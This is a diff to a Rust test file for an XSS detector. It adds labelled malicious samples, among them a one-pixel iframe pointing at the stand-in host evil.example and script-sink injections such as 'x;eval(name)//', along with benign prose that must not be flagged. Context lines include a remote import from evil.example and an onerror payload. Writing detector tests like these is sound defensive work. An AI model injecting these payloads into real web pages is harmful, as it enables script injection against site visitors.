@@ -101,6 +101,10 @@ fn dangerous_tags_and_attributes() {
             "xss:dangerous-tag",
         ),
         (
+            "<iframe width=1 height=1 src=//evil.example>",
+            "xss:dangerous-tag",
+        ),
+        (
             "<iframe srcdoc=\"<img src=1 onerror=alert(1)>\"></iframe>",
             "xss:dangerous-tag",
         ),
@@ -332,6 +336,10 @@ fn script_context_injections() {
         ("alert/**/(1)", "xss:js-sink"),
         ("setTimeout(name, 1)", "xss:js-sink"),
         ("eval('2 + 2')", "xss:js-sink"),
+        ("alert()", "xss:js-sink"),
+        ("x;eval(name)//", "xss:js-sink"),
+        ("window.alert()", "xss:dom-access"),
+        ("x.alert()", "xss:js-sink"),
         ("new Function()", "xss:js-sink"),
         ("x\";setTimeout(name, 1)//", "xss:js-sink"),
         ("import('//evil.example/x.js')", "xss:js-sink"),
@@ -451,6 +459,8 @@ fn rich_text_passes() {
         "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body/></soap:Envelope>",
         "<?xml version=\"1.0\" encoding=\"UTF-8\"?><note><to>Tove</to></note>",
         "The HTML <iframe> element represents a nested browsing context.",
+        "<iframe width=\"560\" height=\"315\" title=\"player\"></iframe> without its src",
+        "<a href=\"https://example.com/search?q=<script>\">a search link, URL-decoded</a>",
     ]);
 }
 
@@ -473,6 +483,8 @@ fn prose_and_data_pass() {
         "Use the data: URI scheme for small images.",
         "In JavaScript, document.getElementById returns an element.",
         "Call eval only if you really must",
+        "Use alert() sparingly; the eval(code) function is slow, call setTimeout() instead",
+        "If you confirm() a dialog, the prompt(message) returns",
         "The onload event fires when the page has loaded.",
         "online banking; onset of symptoms; only once",
         "/docs/javascript-manual/document.cookie",
